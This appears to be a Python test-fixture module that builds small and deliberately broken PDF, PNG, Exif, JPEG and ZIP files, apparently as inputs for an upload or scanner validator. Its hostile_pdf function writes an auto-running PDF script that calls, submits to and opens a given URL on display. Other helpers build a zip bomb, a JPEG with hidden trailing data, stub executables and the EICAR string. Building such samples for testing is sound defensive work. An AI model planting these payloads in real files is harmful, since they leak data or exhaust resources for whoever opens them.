"""Small whole files of each kind, and broken ones, built byte by byte."""

import io
import os
import struct
import zipfile
import zlib

MIB = 1024 * 1024


def pdf(size: int = 0, *, body: bytes = b"") -> bytes:
    """A PDF of one empty page with a stream that fills it up to a size."""
    objects = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n",
        b"3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 72 72] >>\nendobj\n",
    ]

    def build(filling: bytes) -> bytes:
        stream = b"4 0 obj\n<< /Length %d >>\nstream\n%s\nendstream\nendobj\n" % (len(filling), filling)
        made = b"%PDF-1.7\n"
        places = []
        for item in [*objects, stream]:
            places.append(len(made))
            made += item
        start = len(made)
        table = b"".join(b"%010d 00000 n \n" % place for place in places)
        made += b"xref\n0 5\n0000000000 65535 f \n" + table
        return made + b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % start

    if not size:
        return build(body)
    made = build(os.urandom(size - 700))
    filling = os.urandom(size - 700 + size - len(made))
    made = build(filling)
    return made if len(made) == size else build(filling[: len(filling) - (len(made) - size)])


def hostile_pdf(url: str) -> bytes:
    """A PDF whose script calls, sends and opens an address as soon as it is shown."""
    script = f"app.launchURL('{url}/launch', false); this.submitForm('{url}/submit'); this.getURL('{url}/get', false);"
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>",
        f"<< /S /JavaScript /JS ({script} app.alert('carteira');) >>".encode(),
    ]
    made, places = b"%PDF-1.7\n", []
    for number, item in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, item)
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer\n<< /Size 5 /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % len(made)
    return made + b"xref\n0 5\n0000000000 65535 f \n" + table + end


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(width: int = 2, height: int = 2, *, padding: int = 0, extra: bytes = b"") -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"".join(b"\0" + os.urandom(3 * width) for _ in range(height)) if width < 1000 else b"\0")
    extra += chunk(b"prVt", os.urandom(padding)) if padding else b""
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + extra + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def exif(*, order: str = ">", orientation: int = 6, position: bytes = b"", more: bytes = b"") -> bytes:
    """Exif's TIFF structure: a make, an orientation, a directory of Exif, and, with a position, one that holds it."""
    form = struct.Struct(order + "HHII")

    def short(tag: int, value: int) -> bytes:
        return struct.pack(order + "HHIHH", tag, 3, 1, value, 0)

    entries = 3 + bool(position)
    first_end = 8 + 2 + entries * 12 + 4
    inner, gps = first_end + 8, first_end + 8 + 18
    directory = [form.pack(0x010F, 2, 8, first_end), short(0x0112, orientation), form.pack(0x8769, 4, 1, inner)]
    if position:
        directory.append(form.pack(0x8825, 4, 1, gps))
    made = (b"MM\0*" if order == ">" else b"II*\0") + struct.pack(order + "IH", 8, entries) + b"".join(directory)
    made += struct.pack(order + "I", 0) + b"Maker\0\0\0"
    made += struct.pack(order + "H", 1) + short(0x9207, 2) + struct.pack(order + "I", 0)
    if position:
        values = gps + 18
        made += struct.pack(order + "H", 1) + form.pack(2, 7, len(position), values) + struct.pack(order + "I", 0)
        made += position
    return made + more


def segment(marker: int, data: bytes) -> bytes:
    return bytes([0xFF, marker]) + (len(data) + 2).to_bytes(2) + data


def jpeg(*, width: int = 2, height: int = 2, before: bytes | None = None, between: bytes = b"") -> bytes:
    """A JPEG of two scans, with segments before the first and between the two."""
    frame = struct.pack(">BHHB", 8, height, width, 1) + b"\x01\x11\x00"
    if before is None:
        before = segment(0xE1, b"Exif\0\0" + exif(more=b"\xff\xd9" + os.urandom(40_000)))
    scan = segment(0xDA, b"\x01\x01\0\0\x3f\0") + b"\x12\x34\xff\x00\x56\xff\xd0\x78"
    return (
        b"\xff\xd8"
        + segment(0xE0, b"JFIF\0\x01\x02\0\0\x01\0\x01\0\0")
        + before
        + segment(0xDB, b"\0" + bytes(range(1, 65)))
        + segment(0xC0, frame)
        + segment(0xC4, b"\0" + b"\0" * 16)
        + scan
        + b"\xff"
        + segment(0xC4, b"\xff\xd9" + b"\0" * 15)
        + between
        + scan
        + b"\xff\xd9"
    )


def zip_bomb() -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("zeros", b"\0" * (20 * MIB))
    return made.getvalue()


ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 500
EXE = b"MZ\x90\0" + b"\0" * 500
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
"""The standard test file for scanners: harmless, and reported by every one."""
